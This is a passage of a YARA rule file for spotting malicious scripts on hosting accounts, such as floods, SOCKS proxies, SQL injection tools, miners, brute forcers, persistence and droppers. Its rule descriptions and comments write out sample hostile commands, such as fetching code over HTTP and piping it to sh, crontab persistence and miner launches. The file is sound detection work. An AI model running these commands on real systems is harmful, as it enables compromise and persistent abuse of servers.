          ( for any i in (1..#lr) : (
            // the recipient is the list entry ...
            // (the innermost loop before it: a recipients loop after a body-reading
            // loop sends one message)
            for any of ($rv*) : ( for any r in (1..#) : ( @[r] > @lr[i] and @[r] <= @lr[i] + 1500 and
                not for any l in (1..#loop) : ( @loop[l] > @lr[i] and @loop[l] < @[r] ) and
                // ... of this loop's function (a test's loop, then the next test's RCPT TO)
                not for any d in (1..#def1) : ( @def1[d] > @lr[i] and @def1[d] < @[r] ) and
                not for any d in (1..#def2) : ( @def2[d] > @lr[i] and @def2[d] < @[r] ) and
                not for any d in (1..#def3) : ( @def3[d] > @lr[i] and @def3[d] < @[r] ) and
                not for any d in (1..#def4) : ( @def4[d] > @lr[i] and @def4[d] < @[r] ) and
                not for any d in (1..#def5) : ( @def5[d] > @lr[i] and @def5[d] < @[r] ) ) ) and
            // ... and a whole message goes out per entry
            ( for any of ($w*) : ( $ in (@lr[i] + 1 .. @lr[i] + 1500) ) or
              for any j in (1..#mf) : ( @mf[j] > @lr[i] and @mf[j] < @lr[i] + 1000 and
                  for any k in (1..#rt) : ( @rt[k] > @mf[j] and @rt[k] < @mf[j] + 600 and
                      // one sender, then a loop over the recipients: one message
                      not for any l in (1..#loop) : ( @loop[l] > @mf[j] and @loop[l] < @rt[k] ) ) ) ) and
            // ... in code, not in POD
            not ( #pod < 2000 and for any j in (1..#pod) : ( @pod[j] < @lr[i] and
                  not for any k in (1..#cut) : ( @cut[k] > @pod[j] and @cut[k] < @lr[i] ) ) )
        ) and 1 of ($k*) )
        )
}

/* ---- floods, scans, masquerading ---------------------------------------- */

rule bot_perl_flooder_scanner : bot
{
    meta:
        description = "Perl/Python DDoS flooder or mass scanner: packets sent in an endless or timed loop to random or sweeping ports"
        severity = "high"
        technique = "UDP/TCP/HTTP flood or port-range scanner script"
        seen = "pre,train6"
    strings:
        $f1 = /\b(udp|tcp|syn|http|icmp|ack)\s{0,2}_?flood/ nocase
        $f5 = /\bport\s{0,2}_?scan/ nocase
        $f6 = /\bflood(er|ing)?\b/ nocase
        $n1 = "SOCK_RAW" ascii
        $n2 = "SOCK_DGRAM" ascii
        $n3 = /getprotobyname\s{0,2}\(\s{0,2}['"](udp|icmp)/
        $n4 = /IPPROTO_(RAW|UDP|ICMP)|PROTO_UDP|Proto\s{0,4}=>\s{0,4}['"]udp/
        $n5 = /IO::Socket::INET\s{0,4}->\s{0,2}new|socket\.socket\s{0,2}\(/
        $s1 = /\bsend(to)?\s{0,4}\(/
        $s2 = /->\s{0,2}send\s{0,2}\(/
        $s3 = /\.send(to)?\s{0,2}\(/
        $s4 = /\bprint\s{1,4}\{?\s{0,2}\$\w{1,30}\s{0,2}\}?\s{1,4}["'](GET|POST|HEAD) /
        $r1 = /\brand\s{0,2}\(|\bint\s{0,2}\(\s{0,2}rand\b|\brandom\.(randint|choice|_urandom|randrange)|os\.urandom/
        $lp = /\bwhile\s{0,4}\(\s{0,4}(1\s{0,4}\)|time\s{0,2}(\(\s{0,2}\))?\s{0,4}<|\$\w{1,20}\s{0,4}<\s{0,4}\$\w{1,20}\s{0,4}\))|\bwhile\s{1,4}(True|1)\s{0,2}:|\bfor\s{0,4}\(\s{0,4};\s{0,4}(time\s{0,2}(\(\s{0,2}\))?\s{0,4}<=?[^;\n]{1,40})?;\s{0,4}\)|\bwhile\s{1,4}time\.time\s{0,2}\(\s{0,2}\)\s{0,4}</
        // a deadline: the loop runs until now + N seconds
        $dl = /\btime\s{0,2}(\(\s{0,2}\))?\s{0,4}\+\s{0,4}\(?\s{0,4}\$\w{1,20}|\btime\.time\s{0,2}\(\s{0,2}\)\s{0,4}\+\s{0,4}[a-zA-Z_(]/
        // a connection opened per round, or a packet to a random port
        $cr = /IO::Socket::INET\s{0,4}->\s{0,2}new\s{0,2}\(\s{0,2}PeerAddr[^\n]{0,120}(Blocking\s{0,4}=>\s{0,4}0|Proto\s{0,4}=>\s{0,4}['"]udp)/
        $rp = /\b(int\s{0,2}\(\s{0,2}rand\s{0,2}\(\s{0,2}6553[0-9]|random\.(randint|randrange)\s{0,2}\(\s{0,2}[0-9]{1,4}\s{0,2},\s{0,2}6553[0-9])/
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
        any of ($n*) and any of ($s*) and $r1 and $lp and
        // "flooding" alone is also an IRC relay's or a chat client's rate limit
        // over a TCP socket: the bare word counts with a UDP/raw socket only
        ($f1 or $f5 or ($f6 and any of ($n1, $n2, $n3, $n4)) or ($dl and ($cr or $rp)))
}

rule bot_socks_proxy_script : bot
{
    meta:
        description = "Script running its own SOCKS proxy server (listens, accepts, answers the SOCKS handshake, relays)"
        severity = "medium"
        technique = "Perl/Python SOCKS4/5 server: listen + accept + version byte 4/5 handshake + fork/threads relay"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $l1 = /Listen\s{0,4}=>|\blisten\s{0,2}\(/
        $a1 = /->\s{0,2}accept\b|\baccept\s{0,2}\(|\.accept\s{0,2}\(\s{0,2}\)/
        $v1 = /\bpack\s{0,2}\(\s{0,2}['"]C{2,4}[^'"]{0,6}['"]\s{0,2},\s{0,2}(5|0x05|4|0x04)\s{0,2},/
        $v2 = /\\x05\\x00|\\x05\\x01\\x00|\\x00\\x5a|\\x00Z/
        $v3 = /\bchr\s{0,2}\(\s{0,2}5\s{0,2}\)\s{0,2}[.+]\s{0,2}chr\s{0,2}\(\s{0,2}0\s{0,2}\)/
        $w = /\bsocks\s{0,2}[45]?\b/ nocase
        $r1 = /\bfork\b|threading\.Thread|threads->create|\bselect\s{0,2}\(|IO::Select/
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
        $l1 and $a1 and any of ($v*) and $w and $r1
}

/* ---- hack tools run from a hosting account ------------------------------ */

rule bot_sqli_scanner_script : hacktool
{
    meta:
        description = "SQL injection tool: an HTTP client sending UNION SELECT / information_schema probes to target URLs"
        severity = "medium"
        technique = "LWP/requests/urllib loop over targets or dorks with injected UNION SELECT, concat(0x..), information_schema"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $h1 = /LWP::UserAgent|HTTP::Request|LWP::Simple|WWW::Mechanize|HTTP::Tiny/
        $h2 = /\brequests\.(get|post)\s{0,2}\(|urllib(2|\.request)?\.urlopen\s{0,2}\(/
        $q1 = /union(\+|%20|\/\*\*\/|\s)(all(\+|%20|\/\*\*\/|\s))?select/ nocase
        $q2 = /information_schema\.(tables|columns|schemata)/ nocase
        $q3 = /concat(_ws)?\s{0,2}\(\s{0,2}0x[0-9a-f]{2,}/ nocase
        $q4 = /load_file\s{0,2}\(\s{0,2}(0x|char\(|['"]\/)/ nocase
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
        any of ($h*) and $q1 and 1 of ($q2, $q3, $q4)
}

rule bot_process_masquerade : bot
{
    meta:
        description = "Script renames its own process to look like a system daemon and detaches"
        severity = "high"
        technique = "$0 / setproctitle / prctl(PR_SET_NAME) process-name masquerading (fake httpd/sshd/crond/kworker)"
        seen = "pre"
    strings:
        $p1 = /\$0\s{0,4}=\s{0,4}["']?\$?[\w\[\]\/ .:-]{0,40}["']?\s{0,4};/
        $p2 = /\bsetproctitle\s{0,2}\(/
        $p3 = /\bprctl\s{0,2}\(\s{0,2}(15|PR_SET_NAME)\b/
        /* a process name, not part of one: "/usr/sbin/httpd", 'httpd' (not
           'app-trigger-httpd', a log id, nor x-httpd-php, a MIME type) */
        $d1 = /[\/"']httpd\b/
        $d2 = "[kswapd" ascii
        $d3 = "sshd" ascii
        $d4 = "[kworker" ascii
        $d5 = "syslogd" ascii
        $d6 = "crond" ascii
        $d7 = "-bash" ascii
        $d8 = "[migration" ascii
        $d9 = "apache2" ascii
        $d10 = "[ksoftirqd" ascii
        $d11 = "php-fpm" ascii
        $d12 = "/usr/sbin/" ascii
        $d13 = "nginx: worker" ascii
        $d14 = "[kthreadd" ascii
        $d15 = /\$0\s{0,4}=\s{0,4}["'](bash|sh|-sh|init|systemd|cron|mysqld|named|dbus-daemon|rsyslogd)["']/
        $f1 = /\bfork\b/
        $f2 = /\bsetsid\b/
        $f3 = /IO::Socket|\bsocket\s{0,2}\(|socket\.socket/
        $f4 = "SIG{" ascii
        $f5 = /\bdaemon(ize)?\s{0,2}\(/
        $f6 = /\bnohup\b/
    condition:
        filesize < 2MB and not hs_doc_file and (hs_lang_perl or hs_lang_python) and
        any of ($p*) and any of ($d*) and 2 of ($f*)
}

/* A coin miner started from a hosting account: the pool it mines for (a
 * stratum URL, a miner's JSON pool list or its command-line options) and
 * a launch that detaches or hides it, or the rival miners killed first. */
rule bot_miner_launcher : bot
{
    meta:
        description = "Script that starts a cryptocurrency miner: a mining pool (stratum URL, pool config, miner options) with a detached launch or rival miners killed"
        severity = "high"
        technique = "nohup ./x -o stratum+tcp://pool:3333 -u WALLET -p x --donate-level 1 &; config.json with \"pools\": [{\"url\", \"user\"}]; pkill -f xmrig"
        seen = "none"
    strings:
        $p1 = /stratum[0-9]?\+(tcp|ssl|tls):\/\//
        $p2 = /["']pools["']\s{0,4}:\s{0,4}\[\s{0,8}\{[^\]]{0,200}["']url["'][^\]]{0,400}["']user["']/
        $p3 = /\s--(donate-level|cpu-max-threads-hint|max-cpu-usage|randomx-mode|coin)[= ]/
        $p4 = /\s-a\s{1,4}['"]?(cryptonight|rx\/0|randomx|cn\/r|argon2)/
        // the miners' common options: -o POOL:PORT -u WALLET (a long address)
        $p5 = /\s-o\s{1,4}['"]?[\w.:\/+-]{1,80}:[0-9]{2,5}['"]?\s{1,4}-u\s{1,4}['"]?[0-9A-Za-z]{40}/
        $l1 = /\bnohup\s{1,4}(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\$|~\/)/
        $l2 = /\s(-B|--background)\b/
        $l3 = /\bscreen\s{1,4}-dmS?\s/
        $l4 = /\bsetsid\s{1,4}(\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\$)/
        $l5 = />\s{0,2}\/dev\/null\s{0,4}2>&1\s{0,4}&/
        $k = /\b(pkill|killall)\s{1,4}(-9\s{1,4})?(-f\s{1,4})?['"]?(xmrig|minerd|cpuminer|kdevtmpfsi|kinsing|xmr-stak|ccminer|nanominer)\b/
    condition:
        filesize < 1MB and not hs_doc_file and
        (hs_lang_shell or hs_shebang or hs_lang_perl or hs_lang_python or extension == "") and
        any of ($p*) and (any of ($l*) or $k)
}

/* A password guesser: an SSH/FTP login tried with every password of a list
 * against every host of a list, the hits kept. */
rule bot_login_bruteforce_script : bot hacktool
{
    meta:
        description = "SSH/FTP/SMTP brute forcer: logins tried with passwords from a list inside a loop, failed logins caught and the next one tried"
        severity = "high"
        technique = "paramiko SSHClient.connect(h, username=u, password=p) in loops over hosts and a password list, AuthenticationException caught; Net::SSH2 / ftplib / smtplib login in the same shape"
        seen = "none"
    strings:
        // a login with the password in a variable
        $c = /\.connect\s{0,2}\([^)\n]{0,160}\bpassword\s{0,2}=\s{0,2}[a-zA-Z_][\w.\[\]]{0,30}\s{0,2}[,)]|->\s{0,2}auth_password\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$\w{1,30}|\.login\s{0,2}\(\s{0,2}[a-zA-Z_][\w.\[\]]{0,30}\s{0,2},\s{0,2}[a-zA-Z_][\w.\[\]]{0,30}\s{0,2}\)/
        // a failed login caught (and the next one tried) right after it
        $f = /\b(paramiko\.(ssh_exception\.)?)?AuthenticationException\b|\bftplib\.error_perm\b|\bSMTPAuthenticationError\b|->\s{0,2}auth_ok\b|\bpxssh\.ExceptionPxssh\b/
        // the words or the hosts read from a file
        $rd = /\bfor\s{1,4}[\w, ]{1,40}\s{1,4}in\s{1,4}(open\s{0,2}\(|\w{1,30}\.readlines\s{0,2}\(|sys\.stdin|fileinput\.input)|\.readlines\s{0,2}\(\s{0,2}\)|\.read\s{0,2}\(\s{0,2}\)\s{0,2}\.\s{0,2}(split|splitlines)\s{0,2}\(|\bwhile\s{0,4}\(\s{0,4}(my\s{1,4})?\$\w{1,30}\s{0,4}=\s{0,4}<\s{0,2}\$?\w{1,30}\s{0,2}>/
        $pw = /\b(pass(word)?s?|wordlist|creds?|combo)(\.txt|\.lst|_?list|_?file)?\b/ nocase
    condition:
        filesize < 1MB and not hs_doc_file and (hs_lang_python or hs_lang_perl) and
        $rd and $pw and for any i in (1..#c) : ( $f in (@c[i] - 400 .. @c[i] + 400) )
}

/* Persistence installed by a script: a line that starts something hidden,
 * from a temp dir, fetched, or wired to /dev/tcp, appended to a shell
 * startup file, fed to `crontab -`, or made a systemd user unit. A
 * backup script adding "30 2 * * * $PWD/backup.sh" to its crontab does not
 * match (nothing hidden, fetched or in a temp dir). */
rule bot_persistence_install : bot
{
    meta:
        description = "Script installing persistence for a hidden, temp-dir, fetched or /dev/tcp command (shell startup file, crontab from stdin, systemd user unit)"
        severity = "high"
        technique = "echo 'nohup ~/.x &' >> ~/.bashrc; (crontab -l; echo '* * * * * curl URL | sh') | crontab -; ExecStart=/tmp/.x + systemctl --user enable"
        seen = "none"
    strings:
        // what is persisted: a dot file, a temp dir, a fetch piped to a shell, /dev/tcp
        // (the regexes start at what is persisted, not at "echo": PHP echoes everywhere);
        // in $rc a dot file ends at a blank, not a newline: one line's "/.bashrc" and
        // the next line's ">> ~/.profile" are not one command
        $rc = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w-]{1,30}([ \t"';&>]|$)|(curl|wget)\s[^\n|]{1,200}\|\s{0,4}(ba)?sh|\/dev\/tcp\/|\bnohup\s)[^\n]{0,200}["']?\s{0,4}>>\s{0,4}["']?(~|\$HOME|\$\{HOME\}|\/root|\/home\/[\w.-]{1,32}|\/etc)\/(\.(bashrc|bash_profile|profile|zshrc|bash_login|zprofile)|rc\.local|profile)\b/
        $ct = /(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w-]{1,30}(\s|["';&>]|$)|(curl|wget)\s[^\n|]{1,200}\|\s{0,4}(ba)?sh|\/dev\/tcp\/|\bnohup\s)[^\n]{0,200}["']?\s{0,4}\)?\s{0,4}(\|\s{0,4}(sort|uniq)[^\n|]{0,20})?\|\s{0,4}crontab\s{1,4}-/
        $sd1 = /\bExecStart\s{0,2}=\s{0,2}[^\n]{0,200}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\/\.[\w-]{1,30}(\s|$)|(curl|wget)\s[^\n|]{1,200}\|\s{0,4}(ba)?sh|\/dev\/tcp\/)/
        $sd2 = /\bsystemctl\s{1,4}--user\s{1,4}(enable|start|daemon-reload)\b/
        // an installer's environment line (nvm, pyenv, sdkman: export X="$HOME/.dir")
        // names a dot directory but runs nothing; LD_* variables are left out. The
        // span runs to the rc file's name: $rc may also start at that name (its
        // "/.bashrc" then the next line's ">> ~/.bashrc")
        // the rc file's own name as the "dot file" (grep -q X ~/.bashrc || echo Y >> ~/.bashrc)
        $rcn = /\/\.(bashrc|bash_profile|profile|zshrc|bash_login|zprofile)[ \t"';&>]/
        $env = /echo\s{1,4}['"]export\s{1,4}[A-KM-Z][A-Z0-9_]{0,39}=["']?\$(HOME|\{HOME\})\/\.[\w-]{1,30}["']?['"]\s{0,4}>>\s{0,4}["']?(~|\$HOME|\$\{HOME\})\/\.(bashrc|bash_profile|profile|zshrc|zprofile|bash_login)["']?/
    condition:
        filesize < 1MB and not hs_doc_file and
        (hs_lang_shell or hs_shebang or hs_lang_perl or hs_lang_python or extension == "") and
        (($rc and not for all i in (1..#rc) : (
              for any j in (1..#env) : (@rc[i] >= @env[j] and @rc[i] < @env[j] + !env[j]) or
              for any k in (1..#rcn) : (@rc[i] == @rcn[k]))) or
         $ct or ($sd1 and $sd2))
}

/* ---- download and run --------------------------------------------------- */

/* Where the code comes from matters: installers piped from a vendor's
 * HTTPS site (curl -sS https://getcomposer.org/installer | php) are build
 * steps. Droppers fetch over plain HTTP/FTP, from a bare IP address or an
 * odd port, with certificate checks off, or from a URL in a variable. The
 * source test is part of each regex (a separate URL string would make YARA
 * record every "http://" of every file). */
rule bot_fetch_pipe_interpreter : bot
{
    meta:
        description = "Downloads code and runs it without saving it (fetch piped to a shell or interpreter, or eval'd) from a plain-HTTP, bare-IP or unchecked source"
        severity = "high"
        technique = "curl -s http://IP/x | sh; wget -qO- URL | perl; sh -c \"$(curl URL)\"; eval \"$(wget -O- URL)\"; bash <(curl URL)"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $p1 = /\b(curl|wget|fetch|lwp-request|lwp-download|busybox\s{1,4}wget)\s[^\n|;&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n|;&]{0,200}\|\s{0,4}(sudo\s{1,4}|exec\s{1,4}|nohup\s{1,4})?(\/usr)?(\/local)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4}|php[0-9.]{0,3}|ruby)\b/
        $p2 = /\b(sh|bash|zsh|ksh|dash|perl|python[0-9.]{0,4}) (-c|-e) ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
        $p3 = /\beval ["']?(\$\(|`)\s{0,2}(curl|wget|fetch)\s[^\n)`]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
        $p4 = /\b(source|\.|bash|sh|zsh) <\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
        $p5 = /\b(perl|python[0-9.]{0,4}|php) - ?< ?<\(\s{0,2}(curl|wget)\s[^\n)]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)/
        // (train9) a group of fallbacks piped as one: { wget -qO- U || curl -s U; } | bash
        $p6 = /[{(]\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}(http|s?ftp):\/\/[^\n}]{0,200}\|\|\s{0,4}(curl|wget|fetch)\s[^\n}]{0,200}[})]\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        // the URL kept in a variable
        $v1 = /\b(curl|wget|fetch)\s[^\n|;&]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\|\s{0,4}(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        $v2 = /\b(sh|bash|zsh|ksh|dash|eval)( -c)? ["']?\$\(\s{0,2}(curl|wget|fetch)\s[^\n)]{0,60}\s["']?\$\{?\w{1,30}\}?["']?\s{0,4}\)/
        /* In PHP the line is only run through a command function; a PHP
           page that prints the install command ("run: curl ... | php") is
           a message. A make recipe (target line, tab-indented commands) is
           run by a developer's make, not by a web server or cron. */
        $tag1 = "<?php" ascii
        $tag2 = "<?PHP" ascii
        $run = /\b(system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s{0,4}\(|`\s{0,4}(curl|wget|fetch|sh|bash)\s/ nocase
        $mk = /(^|\n)[\w.\/$()-]{1,60}:[^=\n]{0,200}\n\t[^\n]/
    condition:
        filesize < 2MB and not hs_doc_file and any of ($p*, $v*) and
        (not any of ($tag*) or $run) and
        not ($mk and not any of ($tag*) and not hs_shebang and not hs_lang_perl and not hs_lang_python)
}

rule bot_fetch_then_exec : bot
{
    meta:
        description = "Downloads a file, then makes it executable or runs it (dropper), from a suspicious source or into a temp dir"
        severity = "high"
        technique = "wget/curl/fetch URL -O F; chmod +x F; ./F | cd /tmp; wget URL/bot.txt; perl bot.txt"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        // suspicious source: download, chmod +x, run it; or an interpreter on it
        $dc1 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n]{0,300}(;|&&|\n)[^\n]{0,100}\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\.\/|TMP)[\w.\/-]{1,80}/
        $di1 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}((http|s?ftp|tftp):\/\/|https?:\/\/\[?[0-9]{1,3}\.[0-9]{1,3}\.|https?:\/\/[^\/\s'"|;&]{1,80}:[0-9]{2,5}\/|(-k|--insecure|--no-check-certificate)\s)[^\n;|&]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4})?(perl|python[0-9.]{0,4}|sh|bash|php[0-9.]{0,3})\s{1,4}[\w.\/$-]{1,80}/
        // any source, run from a temp dir
        $dc2 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}(https?|s?ftp|tftp):\/\/[^\n]{0,300}(;|&&|\n)[^\n]{0,100}\bchmod\s{1,4}(-R\s{1,4})?(\+x|[ugoa]{1,3}\+[rw]{0,2}x|0?[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4}|exec\s{1,4})?(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/-]{1,80}/
        $di2 = /\b(wget|curl|fetch|lwp-download|tftp|ftpget)\s[^\n;|&]{0,200}(https?|s?ftp|tftp):\/\/[^\n;|&]{0,200}(;|&&|\|\||\n)\s{0,8}(nohup\s{1,4}|setsid\s{1,4})?(perl|python[0-9.]{0,4}|sh|bash|php[0-9.]{0,3})\s{1,4}(\/tmp\/|\/var\/tmp\/|\/dev\/shm\/)[\w.\/$-]{1,80}/
    condition:
        filesize < 2MB and not hs_doc_file and any of them
}

rule bot_fetch_exec_perl : bot
{
    meta:
        description = "Perl script that downloads code and evals it, or saves a download and runs it"
        severity = "high"
        technique = "eval(get(URL)); getstore(URL, F) + chmod/system(F); $ua->get(URL)->content eval'd"
        seen = "bediger4000,nikicat,shipcod3,tennc,train6"
    strings:
        $e1 = /\beval\s{0,4}[({]?\s{0,4}(LWP::Simple::)?get\s{0,4}\(\s{0,4}['"$]/
        $e2 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,4}->\s{0,2}(get|request)\s{0,2}\([^)\n]{0,200}\)\s{0,4}->\s{0,2}(decoded_)?content/
        $e3 = /\beval\s{0,4}[({]?\s{0,4}HTTP::Tiny\s{0,4}->\s{0,2}new[^\n]{0,40}->\s{0,2}get\s{0,2}\(/
        // round 7: the answer kept, then its body eval'd: eval $r->{content}; eval $res->decoded_content
        $h4 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,2}->\s{0,2}(\{\s{0,2}['"]?content\b|(decoded_)?content\b)/
        $g1 = /\bgetstore\s{0,4}\(/
        $g2 = /->\s{0,2}mirror\s{0,2}\(/
        $g3 = /:content_file\b/
        $x1 = /\b(system|exec)\s{0,4}\(?\s{0,4}["'](perl|sh|bash|python[0-9.]{0,4}|\.\/|\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|nohup)/
        $x2 = /\bchmod\s{0,4}\(?\s{0,4}0?[0-7]?[1357][0-7]{2}\b/
        $x3 = /`\s{0,2}(perl|sh|bash|python|\.\/|\/tmp\/|chmod)/
        $ht = /HTTP::Tiny|LWP::UserAgent/
        // train6: my $t = get($u); .. my $code = decode_base64($t); eval $code;
        $kv = /\$\w{1,30}\s{0,2}=\s{0,2}(LWP::Simple::)?get\s{0,2}\(|->\s{0,2}(decoded_)?content\b/
        $kx = /\beval\s{0,4}\(?\s{0,4}((decode_base64|uncompress|unpack|pack|reverse)\s{0,2}\(?\s{0,2}(['"][^'"\n]{1,4}['"]\s{0,2},\s{0,2})?)?\$\w{1,30}\s{0,4}\)?\s{0,4}[;}]/
    condition:
        filesize < 2MB and hs_lang_perl and not hs_doc_file and
        (any of ($e*) or ($h4 and $ht) or (any of ($g*) and any of ($x*)) or
         for any i in (1..#kx) : ( $kv in (@kx[i] - 300 .. @kx[i]) ))
}

rule bot_fetch_exec_python : bot
{
    meta:
        description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
        severity = "high"
        technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); c = fetch(); exec(compile(b64decode(c[::-1]), '<s>', 'exec')); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5,train6"
    strings:
        $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
        $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
        $e3 = /\bexec\s{0,2}\(\s{0,2}__import__\s{0,2}\(\s{0,2}['"]urllib/
        // round 7: Python 2's exec statement; the fetched text compiled and exec'd
        $e4 = /\bexec\s{1,4}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
        $xc = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]\w{0,30}\s{0,2}[,)]/
        // round 10 (heldout5): the fetched text run through decoders first, the
        // decoders nested in any order, over a variable (the answer, however far
        // it was received: a helper that tries mirror after mirror returns it)
        $xd = /\b(exec|eval)\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?((base64|codecs|zlib|lzma|bz2|gzip|marshal|binascii)\s{0,2}\.\s{0,2})?(b64decode|b32decode|b85decode|a85decode|urlsafe_b64decode|decodebytes|decompress|loads|unhexlify|a2b_base64)\s{0,2}\(\s{0,2}[a-zA-Z_(]/
        // or the answer's text as it came: exec(c.decode()), exec(r.text, ns), exec(body[::-1])
        $xt = /\bexec\s{0,2}\(\s{0,2}(compile\s{0,2}\(\s{0,2})?[a-zA-Z_]\w{0,30}\s{0,2}(\.\s{0,2}(decode\s{0,2}\([^)\n]{0,20}\)|text|content)|\[\s{0,2}::\s{0,2}-1\s{0,2}\])\s{0,2}[,)]/
        $g1 = /\burlretrieve\s{0,2}\(/
        $g2 = /\burlopen\s{0,2}\(/
        $g3 = /\brequests\.get\s{0,2}\(/
        // (round 10) other HTTP clients: httpx, urllib3, a requests Session, http.client
        $g4 = /\b(httpx|urllib3)\s{0,2}\.\s{0,2}(get|request|stream|PoolManager|Client)\s{0,2}\(|\.getresponse\s{0,2}\(\s{0,2}\)|\brequests\s{0,2}\.\s{0,2}(post|request|Session)\s{0,2}\(/
        $c1 = /\bos\.chmod\s{0,2}\([^)\n]{1,120}(0o?[0-7]?[1357][0-7]{2}\b|S_IX|S_IEXEC|S_IRWX[UGO]|\b(493|511|365)\b)/
        $x1 = /\b(os\.system|subprocess\.\w{1,16}|os\.exec\w{1,3}|os\.popen|os\.spawn\w{1,3})\s{0,2}\(/
        // a download checked against a digest is a deployment step
        $ck = /\bhashlib\.(sha(1|224|256|384|512)|blake2[bs]|new)\s{0,2}\(/
    condition:
        filesize < 2MB and hs_lang_python and not hs_doc_file and
        (any of ($e*) or (any of ($g*) and $c1 and $x1 and not $ck) or
         // code = urlopen(u).read().decode(); exec(compile(code, ..)): the fetch just before
         for any i in (1..#xc) : ( for any of ($g2, $g3, $g4) : ( $ in (@xc[i] - 300 .. @xc[i]) ) ) or
         // round 10: decoded or taken as text, the fetch up to 1,500 bytes before
         for any i in (1..#xd) : ( for any of ($g2, $g3, $g4) : ( $ in (@xd[i] - 1500 .. @xd[i]) ) ) or
         for any i in (1..#xt) : ( for any of ($g2, $g3, $g4) : ( $ in (@xt[i] - 1500 .. @xt[i]) ) ))
}

/* ---- payloads behind an encoding ---------------------------------------- */

rule bot_decode_pipe_shell : bot obfuscation
{
    meta:
        description = "Encoded text decoded and run by a shell (echo BLOB | base64 -d | sh, eval \"$(... | base64 -d)\")"
        severity = "high"
        technique = "base64 -d / xxd -r -p / openssl base64 -d / printf '\\x..' piped to sh or eval'd"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $b1 = /\bbase64\s{1,4}(-d|--decode|-D|-di)\b[^\n|]{0,40}\|\s{0,4}(sudo\s{1,4})?(\/usr)?(\/bin\/)?((ba|z|k|da)?sh|perl|python[0-9.]{0,4})\b/
        $b2 = /\|\s{0,4}base64\s{1,4}(-d|--decode|-D|-di)\s{0,4}\)/
